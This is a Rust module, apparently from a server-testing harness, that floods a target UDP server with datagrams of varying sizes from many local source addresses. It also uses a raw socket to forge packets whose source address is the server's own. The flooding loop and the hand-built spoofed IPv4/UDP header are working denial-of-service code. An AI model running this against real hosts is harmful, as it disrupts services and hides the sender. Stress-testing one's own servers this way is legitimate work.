//! The attack on servers of datagrams.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::Duration;

use socket2::{Domain, Protocol, Socket, Type};

use crate::round::Until;
use crate::servers::{Address, Server};

/// Datagrams of all sizes from one address, from many, from low ports, and forged ones of the server itself.
pub(crate) fn flood(server: &Server, until: Until) {
    let Address::Udp(victim) = server.address else { return };
    let attacker = server.attacker();
    let one = UdpSocket::bind((attacker, 0)).ok();
    let low = UdpSocket::bind((attacker, 7)).ok();
    let many: Vec<_> = (1..200).filter_map(|last| UdpSocket::bind((sibling(attacker, last), 0)).ok()).collect();
    // Needs rights that not everybody has.
    let forger = Forger::new().ok();
    for number in 0.. {
        if until.is_over() {
            return;
        }
        let sizes = [0, 1, 5, 512, 9_000, 60_000];
        for socket in one.iter().chain(&low).chain(many.get(number % many.len().max(1))) {
            let _ = socket.send_to(&vec![b'x'; sizes[number % sizes.len()]], victim);
        }
        if let (Some(forger), SocketAddr::V4(victim)) = (&forger, victim) {
            let _ = forger.send(victim, victim, b"hello");
        }
        until.wait(Duration::from_millis(1));
    }
}

fn sibling(address: Ipv4Addr, last: u8) -> Ipv4Addr {
    let [a, b, c, _] = address.octets();
    Ipv4Addr::new(a, b, c, last)
}

/// Sends datagrams with any source.
struct Forger(Socket);

impl Forger {
    fn new() -> io::Result<Self> {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
        socket.set_header_included_v4(true)?;
        Ok(Self(socket))
    }

    fn send(&self, from: SocketAddrV4, to: SocketAddrV4, data: &[u8]) -> io::Result<usize> {
        // The system fills in the length and the checksum of the first header; the second needs none.
        let length = (8 + data.len()) as u16;
        let packet = [
            &[0x45, 0, 0, 0, 0, 0, 0, 0, 64, UDP, 0, 0][..],
            &from.ip().octets(),
            &to.ip().octets(),
            &from.port().to_be_bytes(),
            &to.port().to_be_bytes(),
            &length.to_be_bytes(),
            &[0, 0],
            data,
        ];
        self.0.send_to(&packet.concat(), &SocketAddr::V4(SocketAddrV4::new(*to.ip(), 0)).into())
    }
}

const UDP: u8 = 17;
const RAW: i32 = 255;
